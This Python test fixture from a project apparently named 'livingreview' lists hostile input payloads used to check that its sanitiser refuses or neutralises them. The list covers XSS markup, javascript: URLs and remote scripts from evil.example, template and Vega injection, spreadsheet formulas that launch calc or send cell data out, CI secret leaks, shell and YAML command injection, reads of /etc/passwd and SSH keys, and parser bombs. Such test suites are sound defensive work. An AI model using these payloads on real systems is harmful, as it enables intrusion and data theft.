"""What somebody could put into a cell, a bibliography entry or an issue to have it run: every way in is tried with each.

``PAYLOADS`` is the list. A script that runs calls ``hit()``, so that a browser can count. A payload with a reason in ``harmless`` may pass
``livingreview check``, since it is plain text wherever this project writes it; all others must be refused.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text."""

    id: str
    family: str
    text: str
    harmless: str = ""


MARKUP = (
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "</script><script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror=hit() ",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "--><img src=x onerror=hit()>",
    "]]><img src=x onerror=hit()>",
    "</title><img src=x onerror=hit()>",
    "</textarea><img src=x onerror=hit()>",
    "</style><img src=x onerror=hit()>",
    "</td></tr></table><img src=x onerror=hit()>",
    "<math><mtext></table><img src=x onerror=hit()>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "</text></svg><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<body onload=hit()>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<a href=javascript:hit()>x</a>",
    "<x onclick=hit()>x</x>",
    "<!--<img src=x onerror=hit()>-->",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "<%= hit() %>",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "&#60img src=x onerror=hit()&#62",
    "&amp;lt;script&amp;gt;hit()",
)

ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "javascript :hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "javascript&colon;hit()",
    "java&#115;cript:hit()",
    "&#106&#97&#118&#97script:hit()",
    "javascript://example.org/%0ahit()",
    "vbscript:hit()",
    "VBScript:hit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "data:,x",
    "data:;base64,PHNjcmlwdD4=",
    'https://example.org/"onmouseover="hit()"><img src=x onerror=hit()>',
)

MARKDOWN = (
    "[x](javascript:hit())",
    "[x](https://evil.example)",
    "![x](https://evil.example/a.png)",
    "![x](x){onerror=hit()}",
    "[x][y]",
    "[x]: javascript:hit()",
    "[x]: https://evil.example",
    "<javascript:hit()>",
    "<https://evil.example>",
    "<mailto:a@evil.example>",
    "`code`",
    "```{raw} html\n<script>hit()</script>\n```",
    "~~~{raw} html",
)

MYST = (
    "{eval-rst}`x`",
    "{raw}`<script>hit()</script>`",
    "{num}`x.estimate`",
    "{download}`/etc/passwd`",
    "```{include} /etc/passwd```",
    ":::{raw} html",
    ":::{include} ../../references.bib",
    "::::{note}",
    "{{ config }}",
    "{{7*7}}",
    "{{constructor.constructor('hit()')()}}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    ".. raw:: html",
    ".. include:: /etc/passwd",
    ".. |x| replace:: y",
    ":raw-html:`<b>`",
    "`x <javascript:hit()>`_",
    "|x|_ `y`__",
)

VEGA = (
    '{"signal": "hit()"}',
    '{"expr": "hit()"}',
    '{"url": "https://evil.example/data.json"}',
    "{'signal': 'hit()'}",
    '{ "calculate": "datum.constructor.constructor(\'hit()\')()"}',
    '{"$schema": "https://evil.example/schema.json", "usermeta": {"embedOptions": {"loader": {}}}}',
    '{"__proto__": {"hit": 1}}',
    '{"constructor": {"prototype": {"hit": 1}}}',
    "${datum.x}",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '=WEBSERVICE("https://evil.example")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "x;=1+1",
    "x;@SUM(1)",
    "x;-1+cmd|' /C calc'!A0",
)

COMMANDS = (
    "$(touch hit)",
    "`touch hit`",
    "${IFS}",
    "${{ github.token }}",
    "${{ toJSON(secrets) }}",
    "x\ntouch hit",
    "x\r\ntouch hit",
    "::set-output name=x::y",
    "::add-mask::x",
    "::error file=x::y",
    "x\n::stop-commands::y",
    "##[add-mask]x",
    "x\nEOF\nPATH=/tmp",
    "-rf",
    "--output=../hit",
)

HIDDEN = (
    "a\u202eb",
    "a\u2066b\u2069",
    "a\u200bb",
    "a\u200db",
    "a\u00adb",
    "\ufeffa",
    "a\u2028b",
    "a\u2029b",
    "a\u3164",
    "a\U000e0041",
    "java\u200bscript:hit()",
    "<\u200bscript>",
    "a\x00b",
    "\x1b[31mred",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "a\x08b",
    "a\x7fb",
    "a\x9bb",
    "a\ufffdb",
    "a\uffffb",
    "a\ufffeb",
    "a\ud800b",
    "\udcc0\udcaf",
)

BACKSLASHES = (
    "\\input{/etc/passwd}",
    "\\write18{touch hit}",
    "\\immediate\\openout\\x",
    "C:\\Windows\\win.ini",
    "\\\\evil.example\\share",
    "a \\",
    "\\u003cscript\\u003ehit()",
)

BOMBS = (
    "x" * 1_000_000,
    "[" * 100_000,
    "a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b]",
    '{"a":' * 1_000,
    "<b>" * 10_000,
)

HARMLESS = {
    ("path", "no file is named after a text"): (
        "../../../etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "..%2f..%2fetc",
        "~/.ssh/id_rsa",
        "CON",
        ".git/config",
    ),
    ("command", "no command is made of a text"): (
        "; touch hit",
        "| touch hit",
        "&& touch hit",
        "$HOME",
        "'; DROP TABLE findings; --",
    ),
    ("address", "in a column of text nothing becomes a link"): (
        "https://evil.example/",
        "www.evil.example",
        "//evil.example/x",
        "j\u0430vascript:hit()",
        "jar:http://evil.example!/",
        "feed:hit()",
    ),
    ("attribute", "every text is escaped where it stands in an attribute"): (
        '" onmouseover="hit()',
        "' onmouseover='hit()",
        '" autofocus onfocus="hit()" x="',
        'x" style="background:url(//evil.example/x)',
        'role="x" id="y" fill="#000" > url(#z)',
    ),
    ("expression", "a chart's data are values, never expressions"): (
        "datum.constructor.constructor('hit()')()",
        "datum['x'] + hit()",
        "isValid(hit())",
        "hit()",
        "__proto__",
        "constructor.prototype",
        "toString",
    ),
    ("markdown", "no text is read as Markdown but in the summary of a change, which escapes it"): (
        "see @octocat and #1",
        "**bold** _x_ ~~y~~",
        "a | b | c",
        "# heading",
        "| --- | --- |",
    ),
    ("latex", "nothing runs LaTeX, and a backslash is refused"): (
        "$x^2$",
        "a % b",
    ),
    ("yaml", "YAML is read with types of its own only"): (
        "!!python/object/apply:os.system ['touch hit']",
        "!!js/function x",
        "*alias",
        "&anchor x",
        "<<: *x",
        "NO",
    ),
    ("braces", "the bibliography's own braces are read by pybtex, and an open one spoils its entry only"): (
        "a } b",
        "a { b",
        "} @string{x = y",
        "x @preamble{y}",
    ),
    ("bomb", "within the length of a cell, and never parsed"): ("[" * 10_000, "((((a+)+)+)+)+" * 100, "x" * 30_000),
}

REFUSED = {
    "markup": MARKUP,
    "address": ADDRESSES,
    "markdown": MARKDOWN,
    "myst": MYST,
    "vega": VEGA,
    "formula": FORMULAS,
    "command": COMMANDS,
    "hidden": HIDDEN,
    "backslash": BACKSLASHES,
    "bomb": BOMBS,
}


def _payloads() -> list[Payload]:
    named = [(family, text, "") for family, texts in REFUSED.items() for text in texts]
    named += [(family, text, why) for (family, why), texts in HARMLESS.items() for text in texts]
    counted: dict[str, int] = {}
    made = []
    for family, text, why in named:
        counted[family] = counted.get(family, 0) + 1
        made.append(Payload(f"{family}-{counted[family]}", family, text, why))
    return made


PAYLOADS: tuple[Payload, ...] = tuple(_payloads())
